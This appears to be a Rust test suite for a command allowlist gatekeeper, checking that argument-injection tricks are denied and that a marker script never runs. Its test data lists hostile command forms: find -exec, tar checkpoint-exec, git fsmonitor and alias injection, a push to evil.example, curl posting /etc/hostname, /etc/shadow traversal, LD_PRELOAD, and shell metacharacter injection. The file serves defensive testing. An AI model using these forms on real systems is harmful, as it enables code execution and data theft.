//! The shared cases of arguments, names, numbers and patterns, through the real binary. A payload that runs leaves a file
//! behind, so "nothing spawned" is seen and not assumed.

use std::path::PathBuf;

use crate::harness::{Answer, Bench};

/// A working directory with a payload that leaves `ran` behind, and a file to work on.
fn payload(bench: &Bench) -> PathBuf {
    let ran = bench.work().join("ran");
    bench.script("work/p.sh", &format!("#!/bin/sh\ntouch {}\n", ran.display()));
    bench.file("work/big.txt", "3\n1\n2\n");
    bench.file("work/f", "one two\n");
    ran
}

/// Every command is denied by its arguments and nothing ran.
fn denied(bench: &Bench, policy: &str, commands: &[&[&str]]) {
    let ran = payload(bench);
    for words in commands {
        let answer = bench.host(policy).run(*words);
        assert_eq!((answer.status(), answer.exit), ("denied", 126), "{words:?}\n{}", answer.show());
        answer.nothing_ran();
        assert!(!ran.exists(), "{words:?} ran the payload");
    }
}

/// Every command runs.
fn runs(bench: &Bench, policy: &str, commands: &[&[&str]]) -> Vec<Answer> {
    let ran = payload(bench);
    let answers = commands.iter().map(|words| {
        let answer = bench.host(policy).run(*words);
        assert!(["ok", "nonzero_exit"].contains(&answer.status()), "{words:?}\n{}", answer.show());
        assert!(!ran.exists(), "{words:?} ran the payload");
        answer
    });
    answers.collect()
}

/// Every command string is refused for its shell syntax.
fn refused(bench: &Bench, policy: &str, commands: &[(&str, &str)]) {
    let ran = payload(bench);
    for (text, what) in commands {
        let answer = bench.host(policy).command(text);
        assert_eq!((answer.status(), answer.exit), ("denied", 126), "{text:?}\n{}", answer.show());
        assert!(
            answer.str("text").contains(what) && answer.str("text").contains("no shell"),
            "{text:?}\n{}",
            answer.show()
        );
        answer.nothing_ran();
        assert!(!ran.exists());
    }
}

const FIND: &str = r#"
[[rule]]
id = "find"
program = "find"
decision = "allow"
flags = [{ name = "-name", value = {} }, { name = "-type", value = { choices = ["f", "d"] } }, { name = "-maxdepth", value = { min_value = 0, max_value = 9 } }]
operands = [{ pattern = '[\w./-]+', repeat = true }]
"#;

as_both! {
    fn t1_1_and_2_find_runs_writes_and_deletes_nothing(bench) {
        denied(bench, FIND, &[
            &["find", ".", "-maxdepth", "0", "-exec", "./p.sh", ";"],
            &["find", ".", "-execdir", "./p.sh", ";"],
            &["find", ".", "-ok", "./p.sh", ";"],
            &["find", ".", "-okdir", "./p.sh", ";"],
            &["find", ".", "-fprintf", "/tmp/x", "%p"],
            &["find", ".", "-fls", "/tmp/x"],
            &["find", "/tmp/w", "-delete"],
        ]);
        runs(bench, FIND, &[&["find", ".", "-name", "*.rs", "-type", "f"]]);
    }
}

const SORT: &str = "[[rule]]\nid = \"sort\"\nprogram = \"sort\"\ndecision = \"allow\"\nflags = [\"-n\", \"-r\", \"-u\", { name = \"-k\", value = { max_length = 9 } }]\noperands = [{ max_length = 99, repeat = true }]\n";

as_both! {
    fn t1_3_sort_has_no_other_spelling(bench) {
        denied(bench, SORT, &[
            &["sort", "-S", "1k", "--comp=./p.sh", "big.txt"],
            &["sort", "-uo", "out", "in"],
            &["sort", "--o", "out", "in"],
            &["sort", "-oout", "in"],
            &["sort", "--rev", "big.txt"],
        ]);
        runs(bench, SORT, &[&["sort", "-rn", "-k2", "big.txt"], &["sort", "-rnk", "1", "big.txt"]]);
    }
}

const TAR: &str = "[[rule]]\nid = \"tar\"\nprogram = \"tar\"\ndecision = \"allow\"\nflags = [\"-c\", \"-f\", \"-v\"]\noperands = [{ max_length = 200, repeat = true }]\n";

as_both! {
    fn t1_8_tar_runs_nothing_and_old_bundles_are_flags(bench) {
        denied(bench, TAR, &[
            &["tar", "cf", "/dev/null", "--checkpoint=1", "--checkpoint-action=exec=./p.sh", "f"],
            &["tar", "cf", "x.tar", "-I", "./p.sh", "f"],
            &["tar", "cf", "x.tar", "--use-compress-pro=./p.sh", "f"],
            &["tar", "xfC", "a.tar", "/tmp/evil"],
        ]);
        runs(bench, TAR, &[&["tar", "cf", "x.tar", "f"]]);
    }
}

const GIT: &str = r#"
[[rule]]
id = "git"
program = "git"
decision = "allow"
subcommand = ["status", "log", "diff"]
flags = ["-s", "-p", "-1", { name = "-n", value = { min_value = 1, max_value = 99 } }]
"#;

as_both! {
    fn t1_9_12_and_14_git_takes_only_listed_words_in_their_places(bench) {
        denied(bench, GIT, &[
            &["git", "-c", "alias.z=!./p.sh", "z"],
            &["git", "-c", "core.fsmonitor=./p.sh", "status"],
            &["git", "--exec-path=.", "x"],
            &["git", "-p", "log"],
            &["git", "log", "-1", "--output=/tmp/x"],
            &["git", "push", "https://evil.example/r", "HEAD"],
        ]);
        runs(bench, GIT, &[&["git", "status", "-s"], &["git", "log", "-p", "-1"]]);
    }
}

as_both! {
    fn t1_10_a_dash_word_is_no_operand(bench) {
        let policy = "[[rule]]\nid = \"fetch\"\nprogram = \"git\"\ndecision = \"allow\"\nsubcommand = [\"fetch\"]\noperands = [{ pattern = '[\\w:/.@-]+' }]\n";
        denied(bench, policy, &[&["git", "fetch", "--upload-pa=./p.sh", "/path/r"], &["git", "fetch", "--upload-pa=./p.sh"]]);
    }
}

const CURL: &str = "[[rule]]\nid = \"curl\"\nprogram = \"curl\"\ndecision = \"allow\"\nflags = [\"-s\", \"-f\"]\noperands = [{ pattern = 'https://allowed\\.example/.*' }]\n";

as_both! {
    fn t1_15_and_16_curl_is_closed(bench) {
        denied(bench, CURL, &[
            &["curl", "-K", "c.cfg"],
            &["curl", "-sKc.cfg"],
            &["curl", "-s"],
            &["curl", "-s", "https://allowed.example/", "--next", "-o", "/tmp/h", "file:///etc/hostname"],
            &["curl", "-d", "@/etc/hostname", "https://allowed.example/"],
            &["curl", "https://allowed.example/", "https://allowed.example/"],
        ]);
    }
}

as_both! {
    fn t1_20_an_interpreter_with_a_closed_rule_takes_its_script_only(bench) {
        let policy = "[[rule]]\nid = \"py\"\nprogram = \"python3\"\ndecision = \"allow\"\nflags = []\noperands = [{ choices = [\"tests/run.py\"] }]\n";
        denied(bench, policy, &[&["python3", "-c", "import os"], &["python3"], &["python3", "tests/run.py", "x"]]);
    }
}

as_both! {
    fn t1_22_a_path_that_ends_in_an_allowed_name_is_not_it(bench) {
        payload(bench);
        bench.script("work/cat", "#!/bin/sh\ntouch ran\n");
        let own = bench.work().join("cat");
        denied(bench, "allow = [\"cat\"]\n", &[&["./cat", "f"], &["a/../cat", "f"], &[own.to_str().expect("UTF-8"), "f"]]);
        let answers = runs(bench, "allow = [\"cat\"]\n", &[&["cat", "f"], &["/usr/bin/cat", "f"], &["/bin/cat", "f"]]);
        assert!(answers.iter().all(|a| a.str("stdout") == "one two\n"));
    }
}

as_both! {
    fn t1_23_programs_are_looked_up_in_the_policys_path(bench) {
        payload(bench);
        bench.script("work/git", "#!/bin/sh\ntouch ran\n");
        let answer = bench.host("allow = [\"git\"]\n").env("PATH", ":.:/usr/bin").run(["git", "--version"]);
        assert_eq!(answer.status(), "ok", "{}", answer.show());
        assert!(!bench.work().join("ran").exists());
        for path in [".:/usr/bin", "/usr/bin:", "bin", "/usr/bin::/bin", "/usr/../bin"] {
            bench.host(&format!("allow = [\"git\"]\n[env]\nset = {{ PATH = \"{path}\" }}\n")).run(["git"]).error(&["PATH"]);
        }
    }
}

as_both! {
    fn t1_25_loader_variables_cannot_be_requested(bench) {
        for (name, value) in [("LD_PRELOAD", "/tmp/x.so"), ("BASH_ENV", "/tmp/p"), ("BASH_FUNC_x%%", "() {"), ("PYTHONPATH", "/tmp/pp"), ("PATH", "/tmp")] {
            let answer = bench
                .host("allow = [\"ls\"]\n[env]\npass = [\"*\"]\nrequest = [\"*\"]\n")
                .opt(["--env", &format!("{name}={value}")])
                .run(["ls"]);
            assert_eq!((answer.status(), answer.exit), ("denied", 126), "{name}: {}", answer.show());
            assert!(answer.str("text").contains(name) && !answer.str("text").contains(value), "{}", answer.show());
        }
    }
}

as_both! {
    fn t1_13_nothing_of_git_passes_by_a_glob(bench) {
        let answer = bench
            .host("allow = [\"env\"]\n[env]\npass = [\"*\"]\n")
            .env("GIT_CONFIG_COUNT", "1")
            .env("GIT_CONFIG_KEY_0", "core.fsmonitor")
            .env("GIT_CONFIG_VALUE_0", "./p.sh")
            .env("HARMLESS", "yes")
            .run(["env"]);
        let out = answer.str("stdout");
        assert!(out.contains("HARMLESS=yes\n") && !out.contains("GIT_CONFIG") && out.contains("GIT_PAGER=cat\n"), "{}", answer.show());
    }
}

as_both! {
    fn t1_27_an_assignment_is_no_program(bench) {
        refused(bench, "allow = [\"npm\", \"aws\"]\n", &[("NODE_OPTIONS=--require=/tmp/pre.js npm --version", "--env"), ("AWS_PROFILE=prod aws s3 ls", "--env")]);
    }
}

as_both! {
    fn t1_29_to_37_shell_syntax_is_refused(bench) {
        let policy = "allow = [\"git\", \"echo\", \"ls\", \"rm\", \"printf\"]\n";
        refused(bench, policy, &[
            ("git log && id", "&&"),
            ("git log;id", ";"),
            ("git log|sh", "|"),
            ("git log & id", "&"),
            ("git log > ~/.bashrc", ">"),
            ("git status $(touch x)", "$"),
            ("git status `touch x`", "`"),
            ("git status $HOME", "$"),
            ("git status \"$HOME\"", "$"),
            ("git status\nid", "newline"),
            ("echo 'a\\' ; touch /tmp/poc", ";"),
            ("git $'push' --force", "$"),
            ("ls tag\\ #1; id", ";"),
            ("echo hi # there", "#"),
            ("git commit {-a,-m} x", "{"),
            ("git${IFS}commit", "$"),
            ("ls ~root", "~"),
            ("rm *", "*"),
            ("echo hi\rid", "carriage return"),
            ("echo\u{a0}hi", "blank"),
        ]);
        bench.host(policy).command("echo a#b").ok("a#b\n");
        bench.host(policy).command("echo '$(x)' \"can't stop\" 'say \"hi\"'").ok("$(x) can't stop say \"hi\"\n");
        let file = bench.work().join("1");
        bench.host(policy).run(["echo", "x", ">", "1"]).ok("x > 1\n");
        assert!(!file.exists());
    }
}

as_both! {
    fn t1_39_names_are_compared_byte_for_byte(bench) {
        for name in ["rm\u{200b}", "ｇｉｔ", "gіt", "GIT", "git ", " git"] {
            let answer = bench.host("allow = [\"git\"]\n").run([name, "status"]);
            assert_eq!((answer.status(), answer.str("stage")), ("denied", "command"), "{name:?} {}", answer.show());
            assert!(!answer.str("text").contains('\u{200b}'), "{}", answer.show());
        }
    }
}

as_both! {
    fn t1_42_patterns_match_the_whole_value(bench) {
        for pattern in ["[a-z]+", "^[a-z]+$", "(?m)^[a-z]+$"] {
            let policy = format!("[[rule]]\nid = \"e\"\nprogram = \"echo\"\ndecision = \"allow\"\noperands = [{{ pattern = '{pattern}' }}]\n");
            denied(bench, &policy, &[&["echo", "main\n"], &["echo", "main\nmain"], &["echo", "Main"], &["echo", "ma1n"], &["echo", ""]]);
            runs(bench, &policy, &[&["echo", "main"]]);
        }
    }
}

as_both! {
    fn t1_44_and_45_only_plain_finite_decimals_are_numbers(bench) {
        let policy = "[[rule]]\nid = \"s\"\nprogram = \"echo\"\ndecision = \"allow\"\noperands = [{ min_value = 0, max_value = 10 }]\n";
        for value in ["NaN", "nan", "inf", "-inf", "1e309", "1e1", "-0", "+5", "007", "5.", ".5", "0x10", " 5", "5 ", "1_0", "٣", "１", "", "10.0000000000000000001", "99999999999999999999999"] {
            denied(bench, policy, &[&["echo", value]]);
        }
        runs(bench, policy, &[&["echo", "0"], &["echo", "10"], &["echo", "2.50"], &["echo", "10.0"]]);
        for bad in ["min_value = nan", "min_value = 5, max_value = 1", "max_value = inf"] {
            let policy = format!("[[rule]]\nid = \"s\"\nprogram = \"echo\"\ndecision = \"allow\"\noperands = [{{ {bad} }}]\n");
            bench.host(&policy).run(["echo", "1"]).error(&["_value"]);
        }
    }
}

as_both! {
    fn t1_47_a_rule_judges_each_word_alone(bench) {
        let policy = "[[rule]]\nid = \"c\"\nprogram = \"cat\"\ndecision = \"allow\"\noperands = [{ pattern = '/var/log/[\\w.]+' }]\n";
        denied(bench, policy, &[&["cat", "/var/log/a", "/etc/shadow"], &["cat", "/var/log/a /etc/hostname"], &["cat", "/var/log/../../etc/shadow"]]);
    }
}

as_both! {
    fn t1_49_deny_everything_is_an_error_that_explains_itself(bench) {
        bench.host("allow = [\"cat\"]\ndeny = [\"*\"]\n").run(["cat", "f"]).error(&["every allow rule unreachable", "denied already"]);
    }
}

/// Under `strict` a program that runs its arguments runs none: the payload's words never come out. Under `host` they do,
/// so the test can fail.
fn held_by_the_kernel(bench: &Bench, program: &str, commands: &[&[&str]]) {
    if !["/usr/bin", "/bin"].iter().any(|dir| std::path::Path::new(dir).join(program).exists()) {
        return crate::harness::skip(&format!("{program} is not installed"));
    }
    bench.script("work/p.sh", "#!/bin/sh\necho PAYLOAD RAN\n");
    bench.file("work/big.txt", "x\n");
    let ran = |answer: &Answer| answer.json["stdout"].to_string().contains("PAYLOAD RAN");
    for words in commands {
        let loose = bench.host(&format!("allow = [\"{program}\"]\n")).run(*words);
        assert!(ran(&loose), "{words:?} does nothing even unconfined\n{}", loose.show());
        let strict =
            bench.policy(&format!("allow = [\"{program}\"]\n[sandbox]\nprofile = \"strict\"\n")).run(*words);
        assert!(!ran(&strict), "{words:?}\n{}", strict.show());
        assert_eq!(strict.json["sandbox"]["enforced"]["execution"], "once", "{}", strict.show());
    }
}

as_both! {
    fn t1_4_rg_runs_no_helper(bench) {
        let policy = "[[rule]]\nid = \"rg\"\nprogram = \"rg\"\ndecision = \"allow\"\nflags = [\"-n\"]\noperands = [{ max_length = 99, repeat = true }]\n";
        denied(bench, policy, &[&["rg", "--pre", "./p.sh", "x", "big.txt"], &["rg", "--pre=./p.sh", "x"], &["rg", "--hostname-bin=./p.sh", "x"]]);
        held_by_the_kernel(bench, "rg", &[&["rg", "--pre", "./p.sh", "PAYLOAD", "big.txt"]]);
    }
}

as_both! {
    fn t1_18_env_starts_nothing(bench) {
        held_by_the_kernel(bench, "env", &[&["env", "./p.sh"], &["env", "-S", "./p.sh a"], &["env", "A=b", "sh", "-c", "./p.sh"]]);
        let alone = bench.policy("allow = [\"env\"]\n[sandbox]\nprofile = \"strict\"\n").run(["env"]);
        assert!(alone.status() == "ok" && alone.str("stdout").contains("PATH="), "{}", alone.show());
    }
}

as_both! {
    fn t1_19_wrappers_start_nothing(bench) {
        bench.file("work/list", "a\n");
        held_by_the_kernel(bench, "nohup", &[&["nohup", "./p.sh"]]);
        held_by_the_kernel(bench, "xargs", &[&["xargs", "-a", "list", "./p.sh"]]);
        held_by_the_kernel(bench, "nice", &[&["nice", "./p.sh"]]);
        held_by_the_kernel(bench, "timeout", &[&["timeout", "5", "./p.sh"]]);
        held_by_the_kernel(bench, "busybox", &[&["busybox", "sh", "-c", "./p.sh"]]);
    }
}

as_both! {
    fn t1_28_no_state_survives_from_one_request_to_the_next(bench) {
        let policy = "allow = [\"git\", \"printenv\"]\n";
        bench.host(policy).command("export PAGER=./p.sh").denied("blocked: command 'export' is not in the allowlist ['git', 'printenv']");
        bench.host(policy).command("printenv PAGER").ok("cat\n");
    }
}

as_both! {
    fn t1_51_quotes_of_the_other_kind_are_balanced(bench) {
        let policy = "[[rule]]\nid = \"e\"\nprogram = \"echo\"\ndecision = \"allow\"\noperands = [{ pattern = '.*' }]\n";
        bench.host(policy).command("echo \"can't stop\"").ok("can't stop\n");
        bench.host(policy).command("echo 'say \"hi\"'").ok("say \"hi\"\n");
        bench.host(policy).command("echo \"unclosed").error(&["could not parse command"]);
    }
}
